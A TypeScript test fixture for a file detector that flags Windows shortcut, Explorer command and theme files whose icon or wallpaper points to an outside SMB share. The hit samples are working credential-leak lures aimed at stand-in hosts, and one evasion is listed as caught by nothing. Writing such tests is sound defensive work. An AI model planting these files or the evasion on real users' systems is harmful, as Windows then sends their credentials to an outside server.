import type { Examples } from "@doorward/core";

/** Files that take a picture or a folder from a share outside, and files that stay at home. */
export const examples: Examples = {
  hits: [
    {
      name: "a favourite whose picture lies on a share of the internet",
      delivered: true,
      files: {
        "Docs.url":
          "[InternetShortcut]\r\nURL=https://docs.example/\r\nIconFile=\\\\files.example\\i\\a.ico\r\nIconIndex=1\r\n",
      },
    },
    {
      name: "a command of Explorer with such a picture",
      delivered: true,
      files: {
        "Show Desktop.scf":
          "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.4\\i\\a.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n",
      },
    },
    {
      name: "a theme with its picture on a share",
      delivered: true,
      files: {
        "Autumn.theme":
          "[Theme]\r\nDisplayName=Autumn\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\files.example\\w\\a.jpg\r\n",
      },
    },
  ],
  misses: [
    {
      name: "a favourite",
      why: "The browser opens its page, and its picture lies on the computer.",
      delivered: true,
      files: {
        "Docs.url": "[InternetShortcut]\r\nURL=https://docs.example/\r\nIconFile=C:\\Windows\\System32\\url.dll\r\n",
      },
    },
    {
      name: "a favourite with a picture from its site",
      why: "The browser gets the picture, and signs in nowhere.",
      delivered: true,
      files: {
        "Docs.url": "[InternetShortcut]\r\nURL=https://docs.example/\r\nIconFile=https://docs.example/favicon.ico\r\n",
      },
    },
    {
      name: "a shortcut to a folder of the office",
      why: "The server has a name of the office's net.",
      delivered: true,
      files: { "Plans.url": "[InternetShortcut]\r\nURL=file://fileserver/plans/\r\n" },
    },
  ],
  evasions: [
    {
      name: "a server of the internet under a name of one part, which some nets look up",
      caughtBy: "nothing",
      delivered: true,
      files: { "Plans.url": "[InternetShortcut]\r\nURL=file://plans/plans/\r\n" },
    },
  ],
};
